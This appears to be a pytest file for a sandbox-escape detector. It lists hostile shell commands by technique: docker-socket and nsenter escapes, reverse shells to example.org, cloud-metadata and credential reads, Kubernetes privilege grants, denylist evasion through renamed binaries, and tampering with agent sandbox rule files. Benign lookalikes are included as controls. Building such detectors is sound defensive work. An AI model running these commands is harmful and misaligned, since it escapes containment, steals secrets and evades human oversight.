"""Doors of clusters, clouds and engines under their less usual names, and everyday deeds next to each."""

import pytest

from sandbox.detect.escape.reading import read_command

ATTEMPTS = {
    "docker-sock": [
        "busybox nc local:/run/docker.sock < request",
        "openssl s_client -unix /run/docker.sock",
        "ssh -N -L 9000:/var/run/docker.sock me@example.org",
        "http http+unix://%2Fvar%2Frun%2Fdocker.sock/info",
        "zsh -c 'zmodload zsh/net/socket; zsocket /run/docker.sock'",
        "java -cp . Client /var/run/docker.sock",
        "docker cp /etc/sudoers box:/tmp/s",
        "docker cp box:/root/.ssh/id_ed25519 .",
        "docker plugin install --grant-all-permissions example/plugin",
        "$(unknown) run -it -v /:/all alpine",
    ],
    "docker-api": [
        'curl -s --unix-socket "$DOOR" http://x/version',
        "zsh -c 'zmodload zsh/net/tcp; ztcp 172.17.0.1 2375'",
        "curl http://10.1.1.1:9000/api/endpoints/1/docker/containers/json",
        "python3 ask.py 10.1.1.1:2375",
        """echo '{"hosts": ["tcp://0.0.0.0:2375"]}' > /etc/docker/daemon.json""",
    ],
    "nsenter-host": [
        "find /usr -name 'nsen*' -exec {} -t 1 -m sh \\;",
        "ls /usr/bin | grep ns.nter | xargs -I{} {} -t 1 -m sh",
        "insject -p 1 -- id",
        "ln -s /bin/busybox /tmp/nsenter; /tmp/nsenter -t 1 -m",
        'perl -e \'exec {"/usr/bin/nsenter"} "ls","-t","1","-m"\'',
    ],
    "denylist-evasion": [
        "/lib64/ld-linux-x86-64.so.2 /usr/bin/kubectl get pods",
        "/lib/ld-musl-x86_64.so.1 /usr/bin/podman ps",
        "perl -e 'syscall(319, 0, 1)'",
        "exec -a sleep docker ps",
        "hash -p /usr/bin/docker d; d ps",
        "cat /usr/bin/docker > /tmp/d; chmod +x /tmp/d; /tmp/d ps",
        "dd if=/usr/bin/ctr of=/tmp/d; /tmp/d version",
        "ln /usr/bin/docker /tmp/x && /tmp/x ps",
    ],
    "network-pivot": [
        "mkfifo /tmp/p; cat /tmp/p | sh 2>&1 | nc example.org 9 > /tmp/p",
        "nc example.org 9 | sh",
        "openssl s_client -quiet -connect example.org:9 | sh",
        "0<&7; exec 7<>/dev/tcp/example.org/9; sh <&7 >&7",
        "ip link add link eth0 name m type macvlan mode bridge",
        "xenstore-write /tool/x 1",
    ],
    "escape-tool": [
        "make && ./breakout && id",
        "/tmp/sandbox-escape.sh",
        "./fdpasser send /there /etc/passwd",
        "./anything get /etc/shadow",
        "./bob_linux_arm64 -hijack=true",
        "kube-hunter --cidr 10.1.1.0/24 --active",
    ],
    "cloud-metadata": [
        "./bob_linux_arm64 -metadata=true",
        "curl http://168.63.129.16/?comp=versions",
        "curl -g 'http://[fe80::a9fe:a9fe%25eth0]/openstack/'",
        'curl -H "Metadata-Flavor: Google" "$WHERE"',
        "curl http://imds.corp.example.org/latest/meta-data/",
        "curl http://\u2460\u2465\u2468.254.169.254/",
        "node ask.js --url=http://169.254.169.254/",
        """php -r 'echo file_get_contents("http://169.254.169.254/");'""",
    ],
    "k8s-api": [
        "kubectl edit configmap/aws-auth -n kube-system",
        "kubectl -n kube-system patch configmap coredns --patch-file p.yaml",
        "eksctl create iamidentitymapping --cluster c --username admin",
        "kubectl trace run node/one -f x.bt",
        "curl -k https://10.1.1.1:10257/configz",
        "openssl s_client -connect 10.1.1.1:6443",
        "kubectl create rolebinding r --role=admin --user=me",
        "microk8s.kubectl get secrets -A -o yaml",
    ],
    "runtime-sock": ["k3s ctr containers ls", "systemd-run --machine=.host id"],
    "kubelet-api": ['python3 talk.py "wss://10.1.1.1:10250/exec/ns/pod/box?command=id"'],
    "etcd": ["auger extract -f db", "etcdctl member list"],
    "k8s-sa-token": ["kubeletmein generate", "cat /home/kubernetes/kube-env", "oc whoami -t"],
    "device-mount": [
        "mount LABEL=cloudimg-rootfs /mnt",
        "mount $(awk '{print $1; exit}' /proc/mounts) /mnt",
        "vgchange -ay",
        "zpool import -f tank",
        "nbd-client 10.1.1.1 /dev/nbd1",
        "cat /dev/vfio/7",
        "mkdir /sys/kernel/config/one",
    ],
    "sandbox-tamper": [
        "mount --bind /tmp/none /proc/4242",
        "chattr -i /etc/agent/rules.json",
        "mv /tmp/p /etc/sandbox/allow.yaml",
        "kubectl delete events --all",
    ],
    "usermode-helper": ["echo kernel.yama.ptrace_scope=0 > /etc/sysctl.d/9.conf"],
    "cap-abuse": [
        "strace -p $(pidof sshd)",
        "gdb -p $(pidof sshd) -batch -ex bt",
        "gdb -p $(pidof app) -ex 'call f()' -ex bt",
    ],
}
SURVEYS = {
    "kernel-recon": ["ls -lR /proc/sys/kernel/"],
    "k8s-recon": ["pidof containerd-shim", "kubectl logs one -n kube-system"],
    "recon-tool": [
        "kubesplaining scan",
        "trivy k8s --report all",
        "ls /usr/bin | grep nsenter",
        "for t in docker kubectl nsenter; do command -v $t; done",
    ],
    "device-recon": ["vgs", "nvme list"],
    "cred-recon": ["cloud-init query userdata", "cat /run/cloud-init/instance-data.json"],
}
ORDINARY = [
    "gdb -p $(pgrep -n app) -batch -ex 'thread apply all bt'",
    "mosquitto_sub -h localhost -t 'home/#'",
    "ln -s /dev/null /etc/systemd/system/one.service",
    "kubectl -n kube-system rollout restart deploy/coredns",
    "kubectl create rolebinding dev --role=view --user=me",
    "kubectl edit deployment web",
    "docker cp web:/etc/nginx/nginx.conf .",
    "docker exec web cp /root/a /tmp/b",
    'curl --unix-socket "$APP" http://localhost/health',
    "curl http://localhost:5000/latest/meta-data/",
    "ssh -N -L 8080:localhost:80 me@example.org",
    "openssl s_client -connect example.org:443",
    "/lib64/ld-linux-x86-64.so.2 --library-path ./lib ./bin/app",
    "/lib64/ld-linux-x86-64.so.2 --list /bin/ls",
    "find . -name '*.sh' -exec {} \\;",
    "mount LABEL=backup /mnt/backup",
    "python3 crawl.py https://example.org/a",
    "python3 check.py --host 10.1.1.5:5432",
    "./test_escape",
    "./escape_html page",
    "minikube kubectl -- get pods",
    "cp policy.json /etc/app/policy.json",
    """echo '{"log-driver": "json-file"}' > /etc/docker/daemon.json""",
    "etcd --listen-client-urls http://localhost:2379",
    "podman machine ssh dev",
    "cloud-init status --wait",
    "strace -p $(pgrep -n app)",
    "echo vm.max_map_count=262144 > /etc/sysctl.d/9.conf",
    "which curl wget git",
    "whereis unshare chroot",
    "exec -a server python3 app.py",
    "ln -s /usr/bin/podman ~/bin/docker; ~/bin/docker ps",
    "ln -s /usr/bin/python3 /tmp/py; /tmp/py --version",
    "cp build/app /tmp/x && /tmp/x",
    "curl -s https://example.org/install.sh | bash; until echo > /dev/tcp/localhost/5432; do sleep 1; done",
    "nc -zv example.org 443",
    "echo | openssl s_client -connect example.org:443",
    "ip addr add 10.8.0.2/24 dev tun0",
]


def pairs(lines):
    return [(technique, line) for technique, each in lines.items() for line in each]


@pytest.mark.parametrize(("technique", "line"), pairs(ATTEMPTS))
def test_a_door_under_another_name_is_an_attempt(technique, line):
    assert (technique, "attempted") in {(s.technique, s.level) for s in read_command(line)}


@pytest.mark.parametrize(("technique", "line"), pairs(SURVEYS))
def test_a_look_at_it_is_a_survey(technique, line):
    assert {(s.technique, s.level) for s in read_command(line)} == {(technique, "recon")}


@pytest.mark.parametrize("line", ORDINARY)
def test_what_is_done_every_day_beside_it_is_nothing(line):
    assert read_command(line) == []
